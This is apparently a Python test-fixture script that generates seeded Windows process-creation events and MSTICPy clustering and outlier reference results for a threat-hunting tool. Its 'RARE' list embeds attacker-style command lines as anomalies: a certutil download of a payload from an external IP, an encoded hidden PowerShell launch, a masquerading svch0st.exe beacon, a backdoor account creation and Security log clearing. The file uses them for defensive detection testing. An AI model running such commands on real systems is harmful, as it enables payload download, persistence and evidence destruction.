"""Writes cluster_events.csv (seeded Windows 4688 process events, standard
library only) and, with MSTICPy installed, cluster_msticpy.json: what
MSTICPy 3.0.2 / scikit-learn compute on it, the reference huntkit's
`cluster` must equal (features value for value, DBSCAN labels and the
`dbcluster_events` rows exactly; isolation-forest outliers are compared by
overlap, the random streams differ).

    pip install "msticpy[ml]" pandas     # or the bench venv
    python tests/golden/gen_cluster.py
"""

import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).parent
rng = random.Random(20241205)
START = datetime(2024, 3, 4, tzinfo=timezone.utc)

# (path, command-line templates, logon): repetitive work, with variety in
# the arguments that keeps some of it apart.
COMMON = [
    (r"C:\Windows\System32\svchost.exe", [r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {svc}"], "0x3e7"),
    (r"C:\Windows\System32\conhost.exe", [r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"], "0x3e7"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe",
     [r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle={n}',
      r'"C:\Program Files\Google\Chrome\Application\chrome.exe"'], "user"),
    (r"C:\Windows\System32\cmd.exe", [r'C:\Windows\system32\cmd.exe /c "dir C:\Users\{user}\Documents"'], "user"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     [r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\scripts\inventory.ps1"], "user"),
    (r"C:\Windows\System32\taskhostw.exe", ["taskhostw.exe"], "user"),
]
RARE = [
    (r"C:\Users\Public\svch0st.exe", r"C:\Users\Public\svch0st.exe -connect 203.0.113.7:443 -q", "user"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "user"),
    (r"C:\Windows\System32\certutil.exe",
     r"certutil.exe -urlcache -split -f http://198.51.100.4/a.txt C:\Users\Public\a.exe", "user"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\ProgramData\x.dll,DllRegisterServer", "0x3e7"),
    (r"C:\Windows\System32\net.exe", "net user backdoor P@ssw0rd! /add", "user"),
    (r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security", "-1"),
    (r"C:\Temp\résumé viewer.exe", '"C:\\Temp\\résumé viewer.exe" \u2003/open', "user"),
    (r"C:\Windows\System32\whoami.exe", "", "user"),
]
SERVICES = ["Schedule", "BITS", "wuauserv", "Winmgmt", "gpsvc"]
USERS = ["heidi.wright", "ivan.petrov", "amy.chen"]


def rows():
    t = START
    out = []
    for i in range(360):
        t += timedelta(milliseconds=rng.randrange(500, 90_000))
        path, cmds, logon = rng.choice(COMMON)
        cmd = rng.choice(cmds).format(svc=rng.choice(SERVICES), n=rng.randrange(100000, 999999),
                                      user=rng.choice(USERS))
        out.append((t, path, cmd, logon))
    for path, cmd, logon in RARE:
        t += timedelta(milliseconds=rng.randrange(500, 90_000))
        out.append((t, path, cmd, logon))
    rng.shuffle(out)
    return out


def write_csv(path):
    import csv
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["TimeGenerated", "Computer", "SubjectUserName", "SubjectLogonId", "NewProcessId",
                    "NewProcessName", "CommandLine"])
        for i, (t, path, cmd, logon) in enumerate(rows()):
            user = "SYSTEM" if logon in ("0x3e7", "-1") else rng.choice(USERS)
            logon_id = logon if logon != "user" else f"0x{rng.randrange(0x100000, 0xffffff):x}"
            w.writerow([t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z",
                        f"wks-{i % 3 + 1:04d}.corp.contoso.com", user, logon_id,
                        f"0x{rng.randrange(0x100, 0xffff):x}", path, cmd])


CASES = [
    {"name": "msticpy_notebook", "features": ["commandlineTokensFull", "pathScore", "isSystemSession"],
     "max_cluster_distance": 0.0001, "min_cluster_samples": 2},
    {"name": "defaults", "features": ["commandlineTokensFull", "pathScore", "isSystemSession"],
     "max_cluster_distance": 0.01, "min_cluster_samples": 2},
    {"name": "lengths_min3", "features": ["commandlineLen", "commandlineTokensFull", "pathLogScore"],
     "max_cluster_distance": 0.002, "min_cluster_samples": 3},
]
FEATURES = ["processName", "pathScore", "pathLogScore", "pathHash", "commandlineLen", "commandlineLogLen",
            "commandlineTokensFull", "commandlineScore", "commandlineTokensHash", "isSystemSession"]


def reference(csv_path):
    import pandas as pd
    from msticpy.analysis.eventcluster import add_process_features, dbcluster_events
    from msticpy.analysis.outliers import identify_outliers

    df = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
    df["TimeGenerated"] = pd.to_datetime(df["TimeGenerated"], utc=True)
    feats = add_process_features(df)
    out = {"features": {c: [v.item() if hasattr(v, "item") else v for v in feats[c]] for c in FEATURES},
           "cases": []}
    for case in CASES:
        clus, db, _ = dbcluster_events(feats, cluster_columns=case["features"], time_column="TimeGenerated",
                                       max_cluster_distance=case["max_cluster_distance"],
                                       min_cluster_samples=case["min_cluster_samples"])
        x = feats[case["features"]].astype(float).to_numpy()
        _, _, pred = identify_outliers(x, x, contamination=0.05)
        fmt = lambda t: t.isoformat(timespec="milliseconds").replace("+00:00", "Z")  # noqa: E731
        out["cases"].append({
            **case,
            "labels": [int(v) for v in db.labels_],
            "rows": [{"SourceIndex": int(i), "Clustered": bool(r.Clustered), "ClusterId": int(r.ClusterId),
                      "ClusterSize": int(r.ClusterSize), "FirstEventTime": fmt(r.FirstEventTime),
                      "LastEventTime": fmt(r.LastEventTime)} for i, r in clus.iterrows()],
            "sklearn_outliers": [int(i) for i in (pred == -1).nonzero()[0]],
        })
    return out


if __name__ == "__main__":
    csv_path = HERE / "cluster_events.csv"
    write_csv(csv_path)
    print(f"wrote {csv_path}")
    try:
        ref = reference(csv_path)
    except ImportError as e:  # MSTICPy raises its own for a missing extra
        print(e)
        print("msticpy not installed: cluster_msticpy.json not written")
    else:
        (HERE / "cluster_msticpy.json").write_text(json.dumps(ref, ensure_ascii=False, indent=0))
        print(f"wrote {HERE / 'cluster_msticpy.json'}")
